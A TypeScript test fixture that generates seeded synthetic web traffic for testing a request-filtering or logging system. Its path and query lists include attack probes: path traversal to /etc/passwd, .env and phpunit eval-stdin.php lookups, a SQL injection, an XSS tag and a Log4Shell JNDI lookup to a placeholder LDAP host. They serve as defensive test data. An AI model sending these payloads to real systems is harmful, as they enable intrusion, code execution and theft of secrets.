import { testEvent } from "@/db/test/traffic";
import { KINDS, type RequestEvent } from "@/lib/events/request-event";

const HOUR = 3_600_000;

const PATHS = [
  "/",
  "/cart",
  "/.env",
  "/login",
  "/login/",
  "/admin/",
  "/admin/login/",
  "/administrator-guide",
  "/api/auth/session",
  "/phpmyadmin/",
  "/search",
  "/a.css",
  "/missing.png",
  "/robots.txt",
  "/.well-known/security.txt",
  "/../../etc/passwd",
  "/wp-login.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "http://elsewhere.example/",
  "http://example.org/",
];
const QUERIES = ["id=1' or '1'='1", "q=<script>alert(1)</script>", `x=\${jndi:ldap://192.0.2.1/a}`];
const AGENTS = ["Mozilla/5.0 Firefox/128.0", "sqlmap/1.8", "Googlebot/2.1", "curl/8.5.0", ""];
const STATUSES = [200, 200, 301, 304, 400, 401, 403, 404, 404, 405, 410, 418, 429, 444, 451, 500, null];
const METHODS = ["GET", "GET", "GET", "POST", "POST", "HEAD", "CONNECT"];

/** Numbers between 0 and 1 that are the same in every run (mulberry32). */
function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/**
 * Requests of 250 visitors of every habit over the day that ends at a time, most of them in its last hour: quiet and loud
 * ones, of one path or many, of one name or many, through every door, signed in or not.
 */
export function randomTraffic(seed: number, to: Date, count: number): RequestEvent[] {
  const random = randomNumbers(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  return Array.from({ length: count }, () => {
    const visitor = Math.floor(250 ** random());
    const isEarlier = random() < 0.4;
    const isEdge = visitor % 7 === 0;
    return testEvent({
      at: to.getTime() - 1 - Math.floor(random() * (isEarlier ? 24 * HOUR : HOUR)),
      // An IPv6 visitor is a /64, whose addresses change.
      ip:
        visitor % 9 === 0
          ? `2001:db8:${visitor.toString(16)}::${Math.floor(1 + random() * 9)}`
          : `198.51.${visitor % 4}.${visitor}`,
      path: random() < 0.3 ? `/products/${Math.floor(random() * 300)}` : pick(PATHS),
      query: random() < 0.08 ? pick(QUERIES) : null,
      method: pick(METHODS),
      door: isEdge ? "edge" : pick(["node", "ask"]),
      status: isEdge ? null : pick(STATUSES),
      kind: pick(KINDS),
      verdict: pick(["allow", "allow", "allow", "block", "limit"]),
      userAgent: visitor % 5 === 0 ? `agent/${Math.floor(random() * 30)}` : pick(AGENTS),
      userId: visitor % 11 === 0 && random() < 0.1 ? 1 : null,
    });
  });
}
